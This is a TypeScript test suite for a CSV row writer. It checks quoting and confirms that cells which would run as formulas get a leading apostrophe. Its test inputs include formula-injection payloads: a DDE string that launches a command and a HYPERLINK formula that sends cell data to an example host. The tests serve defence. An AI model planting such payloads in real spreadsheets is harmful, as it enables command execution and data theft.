import { expect } from "chai";
import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { BYTE_ORDER_MARK, spreadsheetRow, type SpreadsheetCell } from "../../../report/inventory/spreadsheet";

const FORMULA = "=+-@|＝＋－＠｜﹦﹢﹣﹫−";

function cellsOf(text: string): string[] {
  return parse(text, { record_delimiter: "\r\n" })[0] ?? [];
}

/** What the one cell of a line reads as. */
function readBack(cell: SpreadsheetCell): string {
  return cellsOf(spreadsheetRow(["a", cell]))[1] ?? "";
}

/** Text made of what a spreadsheet could stumble over, between letters. */
const awkward = fc
  .array(
    fc.oneof(
      fc.constantFrom(
        ...FORMULA,
        "\t",
        "\r",
        "\n",
        "\0",
        " ",
        "\u00a0",
        "\u200b",
        "\u202e",
        '"',
        "'",
        ",",
        ";",
        "0",
        "7",
      ),
      fc.constantFrom("cmd", "/C calc", "!A0", "a", "ü", "漢", "💼", "E", "HYPERLINK("),
      fc.string({ unit: "grapheme", maxLength: 3 }),
    ),
    { maxLength: 8 },
  )
  .map((parts) => parts.join(""));

describe("a line of a spreadsheet", () => {
  it("is RFC 4180 with CRLF: what holds a comma, a quote or a line end is quoted, numbers stay numbers, nothing is empty", () => {
    expect(spreadsheetRow(["a", 'b "c", d', "e\nf", 12, 0.5, 0, null, ""])).to.equal(
      'a,"b ""c"", d","e\nf",12,0.5,0,,\r\n',
    );
    expect(spreadsheetRow([NaN, Infinity])).to.equal(",\r\n");
    expect(BYTE_ORDER_MARK.charCodeAt(0)).to.equal(0xfeff);
  });

  it("puts an apostrophe before text that would run as a formula", () => {
    for (const text of [
      "=1+1",
      "+1",
      "-1",
      "@SUM(A1)",
      "\t=1",
      "\r1",
      "\n1",
      "\0a",
      "  =1",
      '"=1"',
      "'=1",
      "\u200b=1",
      "\ufeff=1",
      "＝1",
      "＋1",
      "－1",
      "＠a",
      "|cmd",
      "=cmd|' /C calc'!A0",
      '=HYPERLINK("http://example.com?"&A1)',
    ]) {
      expect(readBack(text), JSON.stringify(text)).to.match(/^'/);
      expect(readBack(text).replaceAll("'", ""), JSON.stringify(text)).to.equal(text.replaceAll("'", ""));
    }
  });

  it("puts one where a spreadsheet with another separator would begin a cell inside the text", () => {
    expect(readBack("a;=1+1;b")).to.equal("a;'=1+1;b");
    expect(readBack("a\t=1")).to.equal("a\t'=1");
    expect(readBack('a\n "@b')).to.equal("a\n' \"@b");
  });

  it("keeps digits as text: no lost zero, no 1.1E+11, no date", () => {
    for (const text of ["012345678901", "111122223333", "1E5", "1.5", "3-4", "12/11", "2026-11-20", "1 000"]) {
      expect(readBack(text)).to.equal(`'${text}`);
    }
  });

  it("leaves names, units, ARNs and times as they are", () => {
    for (const text of [
      "anna",
      "<root_account>",
      "a=b+c@example.com",
      "O'Neil",
      "Root/Workloads/Production",
      "arn:aws:iam::111122223333:user/a",
      "2026-11-20T02:00:00Z",
      "Größe 漢字 💼",
      "7th floor",
      "a - b",
    ]) {
      expect(spreadsheetRow([text])).to.equal(`${text}\r\n`);
    }
  });

  it("runs no cell as a formula, whatever the text is", () => {
    const runs = new RegExp(`^[\\s\\p{C}"]*[${FORMULA.replace("-", "\\-")}]`, "u");
    fc.assert(
      fc.property(fc.array(awkward, { minLength: 1, maxLength: 4 }), (texts) => {
        const line = spreadsheetRow(texts);
        for (const cell of cellsOf(line)) expect(cell).not.to.match(runs);
        // read by a program that separates at semicolons and tabs, and to which quotes inside a cell are nothing
        for (const cell of line.split(/[;\t\r\n]/)) expect(cell).not.to.match(runs);
      }),
      { numRuns: 2000 },
    );
  });

  it("reads back as the text with one apostrophe more at most, and one for each separator or line end in it", () => {
    const plain = (text: string) => text.replaceAll("'", "");
    fc.assert(
      fc.property(awkward, (text) => {
        const cell = readBack(text);
        expect(plain(cell)).to.equal(plain(text));
        expect(cell.length - text.length).to.be.within(0, 1 + (text.match(/[;\t\r\n]/g) ?? []).length);
      }),
      { numRuns: 2000 },
    );
  });

  it("can be undone: no two texts become the same cell", () => {
    fc.assert(
      fc.property(awkward, awkward, (one, other) => {
        fc.pre(one !== other);
        for (const text of [other, `'${one}`, `'${other}`]) {
          if (text !== one) expect(readBack(one)).not.to.equal(readBack(text));
        }
      }),
      { numRuns: 2000 },
    );
  });
});
